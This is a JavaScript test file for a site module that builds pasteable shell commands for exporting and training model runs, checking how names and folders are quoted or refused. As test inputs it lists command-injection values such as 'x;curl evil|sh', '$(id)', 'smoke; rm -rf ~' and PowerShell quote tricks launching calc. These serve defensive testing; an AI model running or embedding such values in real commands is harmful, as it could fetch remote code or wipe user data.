/** site/app/command.js: commands that people paste into shells, and names of strangers in them. */
import assert from "node:assert/strict";
import { test } from "node:test";
import { exportCommand, printable, quoted, trainCommand } from "../../site/app/command.js";

const EXPORT = "python export_for_web.py";

/** What a shell would not take for one literal word in double quotes. */
const UNQUOTABLE = [
  "$(id)",
  "`id`",
  'x" y',
  "%PATH%",
  "wow!!",
  "x\\",
  "x\ny",
  "x\u001b[2J",
  "x\u202ey",
  "x\u2028y",
  "\ud800",
  "--out=x",
  "-x",
  "",
  5,
  null,
  undefined,
  ["a"],
];

test("a plain word is not quoted", () => {
  for (const word of ["tale", "runs/tale", "../x", "/home/me/a_b-c+d.e:f", "runs/長編", "Ærø"]) {
    assert.equal(quoted(word), word);
  }
});

test("a word with spaces or signs of a shell is put into double quotes", () => {
  for (const word of [
    "my novel (1)",
    "Anna's",
    "x;curl evil|sh",
    "a & calc",
    "x && y",
    "~/x",
    "*",
    "C:\\runs\\tale",
    "{a,b}",
    "#x",
    "a=b",
    "<x>",
  ]) {
    assert.equal(quoted(word), `"${word}"`);
  }
});

test("a word that some shell does not take literally in quotes is not quoted at all", () => {
  for (const word of UNQUOTABLE) assert.equal(quoted(word), null);
});

test("a word of 500 characters is quoted and a longer one is not", () => {
  assert.equal(quoted("x".repeat(500)), "x".repeat(500));
  assert.equal(quoted("x".repeat(501)), null);
});

test("a run is exported from the folder that its manifest names", () => {
  assert.equal(exportCommand("tale", "/data/tale"), `${EXPORT} /data/tale`);
  assert.equal(exportCommand("tale", "my runs/tale"), `${EXPORT} "my runs/tale"`);
});

test("where the folder is unknown or cannot be quoted, a run is exported from runs", () => {
  assert.equal(exportCommand("tale"), `${EXPORT} runs/tale`);
  for (const folder of UNQUOTABLE) {
    assert.equal(exportCommand("tale-2", folder), `${EXPORT} runs/tale-2`);
  }
});

test("a name that is no word is in no command", () => {
  const names = [
    "x;curl evil|sh",
    "x && y",
    "$(id)",
    "`id`",
    "a b",
    "x\nrm",
    "x\n",
    "'",
    '"',
    "!!",
    "%PATH%",
    "x\u202ey",
    "",
    "--out=/etc x",
    "a/b",
    "../x",
    ".",
  ];
  for (const name of names) assert.equal(exportCommand(name), EXPORT);
});

test("a run whose text comes with its preset is trained with the preset alone", () => {
  const command = "python train.py --head my_head.py --preset";
  assert.equal(trainCommand({ preset: "stories", dataset: "stories" }), `${command} stories`);
  assert.equal(trainCommand({ preset: "snail-big", dataset: "snail" }), `${command} snail-big`);
  assert.equal(trainCommand({ preset: "smoke", dataset: "stories" }), `${command} smoke`);
});

test("a run with a text of its own is trained with that text, quoted", () => {
  const command = "python train.py --head my_head.py --preset stories --dataset";
  assert.equal(trainCommand({ preset: "stories", dataset: "novel.txt" }), `${command} novel.txt`);
  assert.equal(trainCommand({ preset: "stories", dataset: "my novel.txt" }), `${command} "my novel.txt"`);
});

test("only the preset smoke has the stories without saying so", () => {
  assert.equal(
    trainCommand({ preset: "snail", dataset: "stories" }),
    "python train.py --head my_head.py --preset snail --dataset stories",
  );
});

/** The settings of a run that goes on from another one. */
const CHILD = { preset: "fine-tune", dataset: "novel.txt", parent: "runs/stories", freeze: 0, lora: 0 };

test("a run that goes on from another one is trained from there, and the same weights change", () => {
  const command = "python train.py --head my_head.py --from runs/stories --dataset novel.txt";
  assert.equal(trainCommand(CHILD), command);
  assert.equal(trainCommand({ ...CHILD, freeze: 2 }), `${command} --freeze 2`);
  assert.equal(trainCommand({ ...CHILD, preset: "smoke", lora: 4 }), `${command} --preset smoke --lora 4`);
  assert.equal(
    trainCommand({ ...CHILD, parent: "my runs/a" }),
    'python train.py --head my_head.py --from "my runs/a" --dataset novel.txt',
  );
});

test("there is no command to go on from a run whose folder cannot be quoted", () => {
  for (const parent of UNQUOTABLE.filter(Boolean)) {
    assert.equal(trainCommand({ ...CHILD, parent }), null);
  }
});

test("there is no command to train with names that cannot be quoted", () => {
  for (const dataset of UNQUOTABLE) {
    assert.equal(trainCommand({ preset: "stories", dataset }), null);
  }
  for (const preset of ["smoke; rm -rf ~", "a b", "", "$(id)", "x/y"]) {
    assert.equal(trainCommand({ preset, dataset: "stories" }), null);
  }
});

test("an ordinary name is printed as it is", () => {
  assert.equal(printable("my novel (1) 長編 😀"), "my novel (1) 長編 😀");
});

test("control characters in a name are made visible", () => {
  assert.equal(printable("a\nb\u202ec\u2028\u2029\u0000"), "a\\u{a}b\\u{202e}c\\u{2028}\\u{2029}\\u{0}");
  assert.equal(printable("\ud800"), "\\u{d800}");
});

test("a name is cut after 80 characters, and never in the middle of one", () => {
  assert.equal(printable("x".repeat(80)), "x".repeat(80));
  assert.equal(printable("x".repeat(81)), `${"x".repeat(80)}…`);
  assert.equal(printable("😀".repeat(90)), `${"😀".repeat(80)}…`);
  assert.equal(printable(`${"x".repeat(80)}\n\n`), `${"x".repeat(80)}…`);
});

test("a name that is no text is printed as one", () => {
  assert.equal(printable(undefined), "undefined");
  assert.equal(printable(["a", 5]), "a,5");
});

test("typographic quotes end a word in PowerShell: a word with them is not quoted", () => {
  for (const sign of "“”„") assert.equal(quoted(`x${sign} ; calc #`), null);
  assert.equal(exportCommand("tale", "a” & calc “b"), "python export_for_web.py runs/tale");
});

test("a corpus whose name is how that of a preset begins is named in the command", () => {
  assert.equal(
    trainCommand({ preset: "stories", dataset: "s" }),
    "python train.py --head my_head.py --preset stories --dataset s",
  );
});
